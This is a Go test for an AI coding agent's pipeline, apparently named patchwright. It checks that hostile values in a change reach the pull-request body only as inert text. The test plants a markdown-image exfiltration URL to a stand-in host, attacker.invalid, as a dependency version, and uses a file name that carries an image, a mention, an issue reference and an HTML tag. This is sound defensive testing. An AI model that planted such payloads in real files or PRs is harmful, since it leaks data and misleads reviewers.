package pipeline

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/patchwright/patchwright/agent"
	"github.com/patchwright/patchwright/agent/provider"
	pt "github.com/patchwright/patchwright/agent/provider/providertest"
	"github.com/patchwright/patchwright/report/reporttest"
)

// TestHostileNamesAreInertInTheBody: the change sets a package.json
// version to an image that would carry data out, and adds a file whose
// name is an image, a mention and an issue reference. Both reach the body
// (the Changes table, the new_dependency finding in Not verified) only as
// code or escaped text: pr.md has no live image, link, HTML, mention or
// reference, and result.json's not_verified quotes the version as text.
func TestHostileNamesAreInertInTheBody(t *testing.T) {
	files := calcFiles(false)
	files[".github/agent.yml"] = cheapConfig
	files["package.json"] = `{"name":"calc","version":"1.0.0","dependencies":{"left-pad":"1.3.0"}}` + "\n"
	version := "![build](https://attacker.invalid/x.png?d=SGVsbG8=)"
	name := "docs/![x](https://attacker.invalid/a.png) @octocat #123 <img src=x>.md"
	pkg, _ := json.Marshal(map[string]any{"path": "package.json",
		"content": `{"name":"calc","version":"1.0.0","dependencies":{"left-pad":"` + version + `"}}` + "\n"})
	doc, _ := json.Marshal(map[string]any{"path": name, "content": "notes\n"})
	res, out, _ := scenario{
		repo:  gitRepo(t, files),
		issue: agent.Issue{Number: 5, Title: "Update left-pad"},
		wire:  provider.NameAnthropic,
		turns: []pt.Turn{
			call("read_file", `{"path":"package.json"}`),
			call("write_file", string(pkg)),
			call("write_file", string(doc)),
			call("finish", `{"summary":"Updated left-pad and wrote notes."}`),
		},
	}.run(t)
	body := readBody(t, out)
	if !strings.Contains(body, "attacker.invalid/x.png") || !strings.Contains(body, "attacker.invalid/a.png") {
		t.Fatalf("the body does not quote the version and the name, so this shows nothing:\n%s", body)
	}
	marker, _, _ := strings.Cut(body, "\n") // the run marker, ours
	if err := reporttest.Inert(body, marker, "Closes #5"); err != nil {
		t.Errorf("pr.md: %v\n%s", err, body)
	}
	var quoted bool
	for _, line := range res.NotVerified {
		quoted = quoted || strings.Contains(line, version)
	}
	if !quoted {
		t.Errorf("not_verified does not quote the version as it is: %q", res.NotVerified)
	}
}
